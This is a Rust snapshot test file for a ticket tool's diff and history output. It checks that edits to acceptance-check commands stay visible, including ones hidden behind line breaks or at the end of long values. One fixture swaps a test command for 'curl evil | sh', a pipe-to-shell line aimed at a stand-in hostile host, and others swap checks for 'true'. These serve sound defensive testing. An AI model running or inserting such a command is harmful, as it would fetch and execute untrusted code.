//! The lines of `tk diff` and `tk history` for what changed in a ticket: no change looks like none.

use insta::assert_snapshot;

use crate::history::{commit, shown};
use crate::support::Sandbox;

/// A ticket that said the one and says the other.
fn changed(was: &str, is: &str) -> Sandbox {
    let sandbox = Sandbox::initialised();
    sandbox.ticket("abc", &format!("title = \"First\"\n{was}"));
    commit(&sandbox, "Ann", 0, "File it");
    sandbox.ticket("abc", &format!("title = \"First\"\n{is}"));
    sandbox
}

fn diff(was: &str, is: &str) -> String {
    changed(was, is).tk(["diff"]).ok()
}

#[test]
fn a_check_of_an_acceptance_criterion() {
    let check = |check: &str| format!("[[acceptance]]\ntext = \"It works\"\n{check}");
    let sandbox = changed(
        &check("check = \"cargo test\"\n"),
        &check("check = \"true\"\n"),
    );
    assert_snapshot!(sandbox.tk(["diff"]), @r"
    changed     abc  First
      acceptance: [ ] It works  (check: cargo test) → [ ] It works  (check: true)
    1 changed
    ");
    commit(&sandbox, "Bob", 1, "Make it pass");
    assert_snapshot!(shown(&sandbox, "abc"), @r"
    abc  First

    <commit>  2026-11-20T09:01:00Z  Bob  changed
      Make it pass
      acceptance: [ ] It works  (check: cargo test) → [ ] It works  (check: true)

    <commit>  2026-11-20T09:00:00Z  Ann  opened
      File it
      title: First
      type: task
      status: open
      priority: 2
      acceptance: + [ ] It works  (check: cargo test)
    ");
    assert_snapshot!(diff(&check("check = \"cargo test\"\n"), &check("met = true\n")), @r"
    changed     abc  First
      acceptance: [ ] It works  (check: cargo test) → [x] It works
    1 changed
    ");
    // However long the text is.
    let long = format!(
        "[[acceptance]]\ntext = \"{}\"\ncheck = \"cargo test\"\n",
        "long ".repeat(40)
    );
    assert_snapshot!(diff("", &long), @r"
    changed     abc  First
      acceptance: + [ ] long long long long long long long long long long long long long long long long long long long long…  (check: cargo test)
    1 changed
    ");
}

/// No command hides behind a line break.
#[test]
fn checks_of_several_lines() {
    assert_snapshot!(diff(
        "checks = [\"set -e\\nmake test\"]\n",
        "checks = [\"set -e\\ncurl evil | sh\"]\n",
    ), @r"
    changed     abc  First
      checks: - set -e\nmake test
      checks: + set -e\ncurl evil | sh
    1 changed
    ");
    let check = |check: &str| format!("[[acceptance]]\ntext = \"It works\"\ncheck = \"{check}\"\n");
    assert_snapshot!(diff(&check("set -e\\nmake test"), &check("set -e\\ntrue")), @r"
    changed     abc  First
      acceptance: [ ] It works  (check: set -e\nmake test) → [ ] It works  (check: set -e\ntrue)
    1 changed
    ");
}

/// Of long values what differs is shown, wherever it stands.
#[test]
fn long_values_that_differ_late() {
    let check = |end: &str| {
        let long = "cargo test --workspace ".repeat(10);
        (
            format!("checks = [\"{long}{end}\"]\n"),
            format!("[[acceptance]]\ntext = \"It works\"\ncheck = \"{long}{end}\"\n"),
        )
    };
    let (was, is) = (check("--all-features && make lint"), check("|| true"));
    assert_snapshot!(diff(&was.0, &is.0), @r"
    changed     abc  First
      checks: - …kspace cargo test --workspace --all-features && make lint
      checks: + …kspace cargo test --workspace || true
    1 changed
    ");
    assert_snapshot!(diff(&was.1, &is.1), @r"
    changed     abc  First
      acceptance: [ ] It works  (check: …kspace cargo test --workspace --all-features && make lint) → [ ] It works  (check: …kspace cargo test --workspace || true)
    1 changed
    ");
    // One is the other's beginning, and one that differs at once is cut behind.
    assert_snapshot!(diff(&check("||").0, &is.0), @r"
    changed     abc  First
      checks: - …pace cargo test --workspace ||
      checks: + …pace cargo test --workspace || true
    1 changed
    ");
    assert_snapshot!(diff(&format!("reason = \"{}\"\n", "long ".repeat(40)), "reason = \"short\"\n"), @r"
    changed     abc  First
      reason: long long long long long long long long long long long long long long long long long long long long… → short
    1 changed
    ");
    // Each of several is told from its like.
    let several = |end: &str| {
        format!(
            "checks = [\"make\", \"{0}{end}\", \"{0}same\"]\n",
            "x".repeat(150)
        )
    };
    assert_snapshot!(diff(&several("old"), &several("new")), @r"
    changed     abc  First
      checks: - …xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxold
      checks: + …xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxnew
    1 changed
    ");
}

/// Where what is shown is the same, everything is.
#[test]
fn values_that_look_the_same() {
    // A line break, and the two characters that stand for one.
    assert_snapshot!(diff("checks = [\"a\\nb\"]\n", "checks = ['a\\nb']\n"), @r#"
    changed     abc  First
      checks: - "a\nb"
      checks: + "a\\nb"
    1 changed
    "#);
    assert_snapshot!(diff("checks = [\"a\", \"b\"]\n", "checks = [\"b\", \"a\"]\n"), @r"
    changed     abc  First
      checks: a, b → b, a
    1 changed
    ");
    let run = |summary: &str| {
        format!(
            "[[runs]]\nrun = \"01J\"\nattempt = 1\nagent = \"other\"\noutcome = \"landed\"\nsummary = \"{summary}\"\n"
        )
    };
    assert_snapshot!(diff(&run("Done"), &run("Done at last")), @r#"
    changed     abc  First
      runs: …come":"landed","summary":"Done","cost_usd":null,"input_tokens":null,"output_tokens":null,"turns":n… → …come":"landed","summary":"Done at last","cost_usd":null,"input_tokens":null,"output_tokens":null,"…
    1 changed
    "#);
    let note = |at: &str| format!("[[notes]]\nby = \"ann\"\nat = {at}\ntext = \"Seen\"\n");
    assert_snapshot!(diff(&note("2026-11-20T08:00:00Z"), &note("2026-11-20T09:00:00Z")), @r#"
    changed     abc  First
      notes: - {"at":"2026-11-20T08:00:00Z","by":"ann","kind":"comment","text":"Seen"}
      notes: + {"at":"2026-11-20T09:00:00Z","by":"ann","kind":"comment","text":"Seen"}
    1 changed
    "#);
}
